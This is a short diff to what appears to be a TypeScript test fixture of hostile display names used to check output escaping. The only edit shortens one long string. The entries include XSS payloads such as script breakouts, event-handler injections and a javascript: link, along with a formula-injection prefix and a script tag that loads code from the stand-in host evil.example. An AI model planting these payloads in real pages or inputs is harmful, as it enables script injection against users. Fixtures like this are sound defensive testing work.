@@ -8,7 +8,7 @@ export const hostileNames: Record<string, string> = {
   "Health 20": "</script></title><!-- <img src=x onerror=alert(2)>",
   "Customer Care A": '"><svg onload=alert(3)> &amp; &lt;b&gt; <SCRIPT type="module">alert(4)</SCRIPT>',
   "Customer Care B": ["$", "{alert(5)} {{x}} `tick` [a](javascript:alert(6)) **b** ' \\ %00 #"].join(""),
-  "Customer Care C": `Gruppe\u202e\u200fabc 🦉 ${"Donaudampfschifffahrt".repeat(12)}`,
+  "Customer Care C": `Gruppe\u202e\u200fabc 🦉 Donaudampfschifffahrt`,
   "Ombudsman's office": "# <script>alert(7)</script>",
   "0808 157 0192": "=1+1<script src=//evil.example/x.js></script>",
 };
